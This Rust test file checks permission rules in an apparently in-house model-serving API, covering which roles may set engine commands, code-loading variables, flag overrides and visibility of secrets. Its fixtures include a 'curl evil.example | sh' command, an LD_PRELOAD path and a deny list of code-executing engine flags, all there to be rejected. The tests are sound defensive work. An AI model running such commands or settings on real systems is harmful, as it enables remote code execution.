//! Who may set what an engine runs: a recipe's or a worker's command, variables that load code, arguments
//! that override Tessera's flags, and secrets shown to admins only.

use super::{account, WORKER};
use crate::testing::{TestApp, MAJIN};
use axum::http::{Method, StatusCode};
use serde_json::json;

#[tokio::test]
async fn an_operator_may_not_add_a_catalog_recipe_or_give_a_worker_a_command() {
    let app = TestApp::new(MAJIN).await;
    let operator = account(&app, "otto", "operator").await;
    let recipe = json!({"name": "mine", "engine": "command", "default_share_percent": 10,
        "model_path": "m", "command": "sh -c 'curl evil.example | sh' {port}"});
    let (status, body) = app
        .call_with(
            Some(&operator),
            Method::POST,
            "/api/models",
            Some(&recipe.to_string()),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    let with_command = json!({"name": "w", "command": "sh -c id",
        "requested_resources": {"gpu_requests": {"count": 1, "shared": true, "memory_gb": 1}}});
    let (status, body) = app
        .call_with(
            Some(&operator),
            Method::POST,
            "/api/workers",
            Some(&with_command.to_string()),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(
        body["error"].as_str().unwrap().contains("admin role"),
        "{body}"
    );
    let (_, workers) = app.call(Method::GET, "/api/workers", None).await;
    assert_eq!(workers, json!([]), "nothing was stored");
    let (status, body) = app
        .call_with(Some(&operator), Method::POST, "/api/workers", Some(WORKER))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, body) = app
        .call(Method::POST, "/api/models", Some(&recipe.to_string()))
        .await;
    assert_eq!(status, StatusCode::CREATED, "an admin may: {body}");
}

#[tokio::test]
async fn an_operator_may_not_set_a_variable_that_loads_code_and_an_admin_may() {
    let app = crate::testing::majin_and_atlas_with_catalog().await;
    let operator = account(&app, "otto", "operator").await;
    for (name, value) in [
        ("LD_PRELOAD", "/tmp/x.so"),
        ("PYTHONPATH", "/tmp"),
        ("PATH", "/tmp"),
    ] {
        let deploy = json!({"model": "vision", "gpus": ["atlas:0"], "env": {name: value}});
        let (status, body) = app
            .call_with(
                Some(&operator),
                Method::POST,
                "/api/deployments",
                Some(&deploy.to_string()),
            )
            .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{name}: {body}");
        assert!(body["error"].as_str().unwrap().contains(name), "{body}");
    }
    let (_, groups) = app.call(Method::GET, "/api/groups", None).await;
    assert_eq!(groups, json!([]), "nothing was deployed");
    let trusting = json!({"model": "vision", "gpus": ["atlas:0"], "args": ["--trust-remote-code"]});
    let (status, body) = app
        .call_with(
            Some(&operator),
            Method::POST,
            "/api/deployments",
            Some(&trusting.to_string()),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    let deploy =
        json!({"model": "vision", "gpus": ["atlas:0"], "env": {"PYTHONPATH": "/opt/extra"}});
    let (status, body) = app
        .call(Method::POST, "/api/deployments", Some(&deploy.to_string()))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
}

#[tokio::test]
async fn an_operator_gives_an_engine_only_its_tuning_flags_and_variables_written_out_as_its_parser_reads_them(
) {
    let app = crate::testing::majin_and_atlas_with_catalog().await;
    let operator = account(&app, "otto", "operator").await;
    let deploy_on = |gpu: &str, model: &str, args: serde_json::Value, env: serde_json::Value| {
        json!({"model": model, "gpus": [gpu], "args": args, "env": env}).to_string()
    };
    let deploy = |model: &str, args, env| deploy_on("atlas:0", model, args, env);
    for (model, args, env, named) in [
        // Abbreviations and spellings the engine's own parser takes for --trust-remote-code.
        (
            "glm-5.3",
            json!(["--trust-remote"]),
            json!({}),
            "--trust-remote",
        ),
        (
            "glm-5.3",
            json!(["--trust_remote_code=1"]),
            json!({}),
            "--trust-remote-code",
        ),
        // Flags that run code from a request, a plugin or a file.
        (
            "vision",
            json!(["--enable-custom-logit-processor"]),
            json!({}),
            "--enable-custom-logit-processor",
        ),
        (
            "glm-5.3",
            json!(["--logits-processor-pattern", ".*"]),
            json!({}),
            "--logits-processor-pattern",
        ),
        (
            "glm-5.3",
            json!(["--tool-parser-plugin", "/tmp/p.py"]),
            json!({}),
            "--tool-parser-plugin",
        ),
        (
            "glm-5.3",
            json!(["--middleware", "evil.Mw"]),
            json!({}),
            "--middleware",
        ),
        (
            "glm-5.3",
            json!(["--allowed-local-media-path=/"]),
            json!({}),
            "--allowed-local-media-path",
        ),
        (
            "speech",
            json!(["--slot-save-path", "/etc"]),
            json!({}),
            "--slot-save-path",
        ),
        ("embedder", json!(["--anything"]), json!({}), "--anything"),
        // Variables that do the same.
        (
            "glm-5.3",
            json!([]),
            json!({"VLLM_SERVER_DEV_MODE": "1"}),
            "VLLM_SERVER_DEV_MODE",
        ),
        (
            "glm-5.3",
            json!([]),
            json!({"VLLM_ALLOW_INSECURE_SERIALIZATION": "1"}),
            "VLLM_ALLOW_INSECURE_SERIALIZATION",
        ),
        (
            "glm-5.3",
            json!([]),
            json!({"VLLM_ALLOW_RUNTIME_LORA_UPDATING": "1"}),
            "VLLM_ALLOW_RUNTIME_LORA_UPDATING",
        ),
    ] {
        let (status, body) = app
            .call_with(
                Some(&operator),
                Method::POST,
                "/api/deployments",
                Some(&deploy(model, args.clone(), env.clone())),
            )
            .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{args} {env}: {body}");
        let error = body["error"].as_str().unwrap();
        assert!(
            error.starts_with("otto is an operator: ")
                && error.contains(named)
                && error.contains("docs/src/security.md lists them")
                && error.ends_with("which needs the admin role"),
            "{error}"
        );
    }
    let (_, groups) = app.call(Method::GET, "/api/groups", None).await;
    assert_eq!(groups, json!([]), "nothing was deployed");
    for (gpu, model, args, env) in [
        (
            "atlas:0",
            "glm-5.3",
            json!(["--max-model-len", "4096", "--enable_prefix_caching"]),
            json!({"VLLM_LOGGING_LEVEL": "DEBUG"}),
        ),
        (
            "atlas:1",
            "vision",
            json!(["--context-length=8192", "--disable-radix-cache"]),
            json!({"HF_TOKEN": "hf_x"}),
        ),
        (
            "majin:0",
            "speech",
            json!(["-c", "2048", "-ctk", "q8_0", "--temp", "-0.5"]),
            json!({"OMP_NUM_THREADS": "4"}),
        ),
    ] {
        let (status, body) = app
            .call_with(
                Some(&operator),
                Method::POST,
                "/api/deployments",
                Some(&deploy_on(gpu, model, args, env)),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{model}: {body}");
    }
    // An admin's are not limited to the list.
    let app = crate::testing::majin_and_atlas_with_catalog().await;
    let (status, body) = app
        .call(
            Method::POST,
            "/api/deployments",
            Some(&deploy(
                "embedder",
                json!(["--anything"]),
                json!({"VLLM_SERVER_DEV_MODE": "1"}),
            )),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
}

#[tokio::test]
async fn an_extra_argument_that_overrides_a_flag_tessera_sets_gets_422_naming_the_flag_and_its_field(
) {
    let app = crate::testing::majin_and_atlas_with_catalog().await;
    for (model, args, flag, field) in [
        (
            "glm-5.3",
            json!(["--gpu-memory-utilization", "0.95"]),
            "--gpu-memory-utilization",
            "\"share\"",
        ),
        ("glm-5.3", json!(["--host=0.0.0.0"]), "--host", "127.0.0.1"),
        (
            "glm-5.3",
            json!(["--tensor-parallel-size", "8"]),
            "--tensor-parallel-size",
            "\"gpus\"",
        ),
        (
            "vision",
            json!(["--mem-fraction-static", "0.9"]),
            "--mem-fraction-static",
            "\"share\"",
        ),
        ("speech", json!(["--port", "80"]), "--port", "port"),
        ("speech", json!(["-ngl", "99"]), "-ngl", "\"share\""),
        ("embedder", json!(["--port", "80"]), "--port", "port"),
    ] {
        let deploy = json!({"model": model, "gpus": ["atlas:0"], "args": args});
        let (status, body) = app
            .call(Method::POST, "/api/deployments", Some(&deploy.to_string()))
            .await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{model} {args}: {body}"
        );
        let error = body["error"].as_str().unwrap();
        assert!(error.contains(flag) && error.contains(field), "{error}");
    }
    let fine =
        json!({"model": "glm-5.3", "gpus": ["atlas:0"], "args": ["--max-model-len", "8192"]});
    let (status, body) = app
        .call(Method::POST, "/api/deployments", Some(&fine.to_string()))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, body) = app
        .call(
            Method::PUT,
            "/api/deployments/glm-5.3/serving",
            Some(&json!({"revision": 1, "args": ["--gpu_memory_utilization=0.99"]}).to_string()),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
}

#[tokio::test]
async fn secrets_are_shown_to_admins_only_and_never_written_to_the_audit_log() {
    let app = crate::testing::majin_and_atlas_with_catalog().await;
    let viewer = account(&app, "vera", "viewer").await;
    let operator = account(&app, "otto", "operator").await;
    let deploy = json!({"model": "speech", "gpus": ["atlas:1"], "shared": false,
        "env": {"HF_TOKEN": "hf_deploysecret", "NCCL_DEBUG": "INFO"}});
    let (status, body) = app
        .call(Method::POST, "/api/deployments", Some(&deploy.to_string()))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    for uri in [
        "/api/workers",
        "/api/workers/speech",
        "/api/machines/atlas/workers",
    ] {
        let (_, seen) = app.call_with(Some(&viewer), Method::GET, uri, None).await;
        let text = seen.to_string();
        assert!(!text.contains("hf_deploysecret"), "{uri}: {text}");
        assert!(
            text.contains("(secret)") && text.contains("INFO"),
            "{uri}: {text}"
        );
        let (_, seen) = app.call(Method::GET, uri, None).await;
        assert!(
            seen.to_string().contains("hf_deploysecret"),
            "an admin sees it: {uri}"
        );
    }
    // An operator's form sends the secret back as shown: the stored value stays.
    let (status, body) = app
        .call_with(
            Some(&operator),
            Method::PUT,
            "/api/deployments/speech/serving",
            Some(
                &json!({"revision": 1, "env": {"HF_TOKEN": "(secret)", "NCCL_DEBUG": "WARN"}})
                    .to_string(),
            ),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, worker) = app.call(Method::GET, "/api/workers/speech", None).await;
    assert_eq!(worker["env"]["HF_TOKEN"], "hf_deploysecret");
    assert_eq!(worker["env"]["NCCL_DEBUG"], "WARN");
    let log: String = sqlx::query_scalar(
        "SELECT group_concat(coalesce(before, '') || coalesce(after, '')) FROM audit",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert!(
        log.contains("NCCL_DEBUG") && !log.contains("hf_deploysecret"),
        "{log}"
    );
}
